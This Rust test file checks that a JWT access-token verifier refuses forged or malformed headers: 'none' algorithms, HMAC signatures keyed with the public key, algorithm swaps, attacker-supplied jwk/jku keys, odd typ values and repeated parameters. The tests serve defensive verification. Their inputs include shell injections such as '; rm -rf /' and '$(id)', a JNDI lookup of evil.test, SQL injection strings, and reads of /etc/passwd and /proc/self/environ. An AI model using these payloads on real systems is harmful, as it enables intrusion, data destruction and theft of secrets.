//! Faults in the header: algorithm, key id, extensions, type.

use aws_lc_rs::{
    encoding::{AsDer, PublicKeyX509Der},
    hmac,
    signature::{KeyPair, RSA_PSS_SHA256},
};
use base64::{Engine, engine::general_purpose::STANDARD};
use serde_json::{Value, json};
use shared::VerifyError::{Algorithm, Critical, Malformed, Signature, UnknownKey, WrongType};

use super::{
    ATTACKER_KEYS, ISSUER_KEYS, Pair, Signer, append_member, base64, claims, prepend_member,
    verify, with, without,
};

#[test]
fn the_algorithm_none_is_refused_in_every_spelling() {
    for signer in &*ISSUER_KEYS {
        for alg in ["none", "None", "NONE", "nOnE", "none ", "", "null"] {
            let token = signer.with_parameter("alg", json!(alg));
            assert_eq!(verify(&token), Err(Algorithm), "{alg:?} signed");
            let (input, _) = token.rsplit_once('.').unwrap();
            assert_eq!(verify(&format!("{input}.")), Err(Algorithm), "{alg:?} unsigned");
            assert_eq!(verify(input), Err(Malformed), "{alg:?} without a third part");
        }
        for alg in
            [json!(null), json!(0), json!(false), json!([signer.alg]), json!({"name": signer.alg})]
        {
            assert_eq!(verify(&signer.with_parameter("alg", alg)), Err(Malformed));
        }
        assert_eq!(verify(&signer.with_header(&without(&signer.header(), "alg"))), Err(Malformed));
    }
}

/// Returns a public key in every form that an attacker can use as an HMAC secret.
fn forms_of_the_public_key(signer: &Signer) -> Vec<Vec<u8>> {
    fn raw_and_der<K: AsRef<[u8]> + AsDer<PublicKeyX509Der<'static>>>(key: &K) -> [Vec<u8>; 2] {
        [key.as_ref().into(), key.as_der().unwrap().as_ref().into()]
    }
    let [raw, der] = match &signer.pair {
        Pair::Ed25519(pair) => raw_and_der(pair.public_key()),
        Pair::P256(pair) => raw_and_der(pair.public_key()),
        Pair::Rsa(pair) => raw_and_der(pair.public_key()),
    };
    let lines: Vec<String> = STANDARD
        .encode(&der)
        .as_bytes()
        .chunks(64)
        .map(|line| String::from_utf8_lossy(line).into())
        .collect();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", lines.join("\n"));
    let jwk = signer.jwk();
    let number = jwk.get("n").unwrap_or(&jwk["x"]).as_str().unwrap();
    let texts = [
        pem.clone(),
        pem + "\n",
        jwk.to_string(),
        json!({"keys": [jwk]}).to_string(),
        number.into(),
        base64(&raw),
        STANDARD.encode(&raw),
    ];
    texts.into_iter().map(String::into_bytes).chain([raw, der, Vec::new()]).collect()
}

#[test]
fn an_hmac_with_the_public_key_as_secret_is_refused() {
    for signer in &*ISSUER_KEYS {
        for secret in forms_of_the_public_key(signer) {
            for (alg, hash) in [
                ("HS256", hmac::HMAC_SHA256),
                ("HS384", hmac::HMAC_SHA384),
                ("HS512", hmac::HMAC_SHA512),
            ] {
                // With the name of the HMAC, and with the name of the key's algorithm.
                for (named, expected) in [(alg, Algorithm), (signer.alg, Signature)] {
                    let header = with(&signer.header(), "alg", json!(named)).to_string();
                    let input = format!("{}.{}", base64(header), base64(claims().to_string()));
                    let tag = hmac::sign(&hmac::Key::new(hash, &secret), input.as_bytes());
                    assert_eq!(
                        verify(&format!("{input}.{}", base64(tag))),
                        Err(expected),
                        "{alg} as {named}"
                    );
                }
            }
        }
    }
}

/// Algorithms that the verifier does not accept, and other spellings of accepted ones.
const OTHER_ALGORITHMS: &str = "HS256 RS384 RS512 PS256 PS384 PS512 ES256K ES384 ES512 Ed25519 \
    Ed448 ML-DSA-44 eddsa EDDSA es256 RSA-OAEP dir unknown";

#[test]
fn a_key_verifies_one_algorithm() {
    for signer in &*ISSUER_KEYS {
        for other in ISSUER_KEYS.iter().filter(|other| other.alg != signer.alg) {
            let alg = json!(other.alg);
            let kid = json!(other.kid);
            let other_alg = with(&signer.header(), "alg", alg.clone());
            assert_eq!(verify(&signer.with_header(&other_alg)), Err(Algorithm));
            assert_eq!(verify(&signer.with_parameter("kid", kid.clone())), Err(Algorithm));
            assert_eq!(verify(&signer.with_header(&with(&other_alg, "kid", kid))), Err(Signature));
        }
        for alg in OTHER_ALGORITHMS.split(' ').chain(["RS256 "]) {
            assert_eq!(verify(&signer.with_parameter("alg", json!(alg))), Err(Algorithm), "{alg}");
        }
    }
    // The same key and hash with PSS padding.
    let [_, _, rsa] = &*ISSUER_KEYS;
    for (alg, expected) in [("PS256", Algorithm), ("RS256", Signature)] {
        let header = with(&rsa.header(), "alg", json!(alg)).to_string();
        let input = format!("{}.{}", base64(header), base64(claims().to_string()));
        let signature = rsa.sign_rsa(&RSA_PSS_SHA256, &input);
        assert_eq!(verify(&format!("{input}.{}", base64(signature))), Err(expected), "{alg}");
    }
}

#[test]
fn keys_in_the_header_are_ignored() {
    for (issuer, attacker) in ISSUER_KEYS.iter().zip(&*ATTACKER_KEYS) {
        let url = json!("http://evil.test/jwks.json");
        for (name, value) in [
            ("jwk", attacker.jwk()),
            ("jwk", with(&attacker.jwk(), "kid", json!(issuer.kid))),
            ("jwk", json!("nonsense")),
            ("jku", url.clone()),
            ("jku", json!("file:///etc/passwd")),
            ("x5u", url),
            ("x5c", json!(["AAAA"])),
            ("x5t", json!("AAAA")),
            ("x5t#S256", json!("AAAA")),
        ] {
            let issuer_header = with(&issuer.header(), name, value.clone());
            let attacker_header = with(&attacker.header(), name, value);
            assert_eq!(
                verify(&attacker.with_header(&attacker_header)),
                Err(UnknownKey),
                "{name}, the attacker's kid"
            );
            assert_eq!(
                verify(&attacker.with_header(&issuer_header)),
                Err(Signature),
                "{name}, the issuer's kid"
            );
            assert_eq!(
                verify(&issuer.with_header(&issuer_header)),
                Ok(()),
                "{name}, the issuer's key"
            );
        }
    }
}

#[test]
fn a_kid_is_only_compared_with_known_key_ids() {
    for signer in &*ISSUER_KEYS {
        for kid in [
            "../../../dev/null",
            "/dev/null",
            r"..\..\windows\win.ini",
            "file:///proc/self/environ",
            "http://evil.test/key.pem",
            "' OR '1'='1",
            "x' UNION SELECT 'key' --",
            "; rm -rf /",
            "$(id)",
            "${jndi:ldap://evil.test}",
            "%00",
            "*",
            "",
            " ",
            &signer.kid.to_uppercase(),
            &format!("{} ", signer.kid),
            &format!("{}/../{}", signer.kid, signer.kid),
            &signer.kid[1..],
            &"k".repeat(5000),
        ] {
            // JSON escapes a backslash, and the parser refuses escapes in a key id.
            let expected = if kid.contains('\\') { Malformed } else { UnknownKey };
            assert_eq!(verify(&signer.with_parameter("kid", json!(kid))), Err(expected), "{kid}");
        }
        let escaped = format!("{}\0", signer.kid);
        for (kid, expected) in [
            (json!(null), UnknownKey),
            (json!(1), Malformed),
            (json!(true), Malformed),
            (json!([signer.kid]), Malformed),
            (json!({"kid": signer.kid}), Malformed),
            (json!(escaped), Malformed),
            (json!("k".repeat(8 * 1024)), Malformed),
        ] {
            assert_eq!(verify(&signer.with_parameter("kid", kid.clone())), Err(expected), "{kid}");
        }
        assert_eq!(verify(&signer.with_header(&without(&signer.header(), "kid"))), Err(UnknownKey));
        let raw_nul = signer.header().to_string().replace(&signer.kid, &escaped);
        assert_eq!(verify(&signer.token(raw_nul, claims().to_string())), Err(Malformed));
    }
}

#[test]
fn every_crit_is_refused() {
    for signer in &*ISSUER_KEYS {
        for crit in [
            json!([]),
            json!(["exp"]),
            json!(["alg"]),
            json!(["b64"]),
            json!([1]),
            json!(null),
            json!("exp"),
            json!({}),
        ] {
            let header = with(&with(&signer.header(), "crit", crit.clone()), "b64", json!(false));
            assert_eq!(verify(&signer.with_header(&header)), Err(Critical), "{crit}");
        }
        // Without crit, b64 is an unknown parameter (RFC 7797 section 6): the payload is encoded.
        let header = with(&signer.header(), "b64", json!(false));
        assert_eq!(verify(&signer.with_header(&header)), Ok(()));
        let unencoded = format!("{}.{}", base64(header.to_string()), claims());
        assert_eq!(verify(&signer.signed(&unencoded)), Err(Malformed));
    }
}

#[test]
fn only_the_type_of_access_tokens_is_accepted() {
    for signer in &*ISSUER_KEYS {
        let typed = |typ: Value| signer.with_parameter("typ", typ);
        for typ in [
            "JWT",
            "jwt",
            "rt+jwt",
            "dpop+jwt",
            "logout+jwt",
            "at+jwt ",
            " at+jwt",
            "at+jwt;v=1",
            "at jwt",
            "at",
            "",
            "application/",
            "application/jwt",
            "application/application/at+jwt",
            "text/at+jwt",
            "applicationé/at+jwt",
            "application\u{2215}at+jwt",
        ] {
            assert_eq!(verify(&typed(json!(typ))), Err(WrongType), "{typ:?}");
        }
        for typ in ["AT+JWT", "At+Jwt", "application/at+jwt", "APPLICATION/AT+JWT"] {
            assert_eq!(verify(&typed(json!(typ))), Ok(()), "{typ:?}");
        }
        assert_eq!(verify(&typed(json!(null))), Err(WrongType));
        for typ in [json!(1), json!(["at+jwt"]), json!({}), json!(true)] {
            assert_eq!(verify(&typed(typ)), Err(Malformed));
        }
        assert_eq!(verify(&signer.with_header(&without(&signer.header(), "typ"))), Err(WrongType));
    }
}

#[test]
fn a_repeated_parameter_is_refused() {
    for signer in &*ISSUER_KEYS {
        let header = signer.header();
        for member in [
            r#""alg":"none""#.to_owned(),
            format!(r#""alg":"{}""#, signer.alg),
            r#""\u0061lg":"none""#.into(),
            r#""typ":"JWT""#.into(),
            r#""kid":"other""#.into(),
            format!(r#""kid":"{}""#, signer.kid),
            r#""crit":null,"crit":null"#.into(),
        ] {
            for header in [prepend_member(&header, &member), append_member(&header, &member)] {
                assert_eq!(
                    verify(&signer.token(&header, claims().to_string())),
                    Err(Malformed),
                    "{header}"
                );
            }
        }
        // Unknown parameters may repeat, and names are case-sensitive (RFC 7515 section 4).
        for member in
            [r#""x":1,"x":2"#, r#""jwk":1,"jwk":2"#, r#""Alg":"none","ALG":"none","KID":"other""#]
        {
            let token = signer.token(prepend_member(&header, member), claims().to_string());
            assert_eq!(verify(&token), Ok(()), "{member}");
        }
    }
}
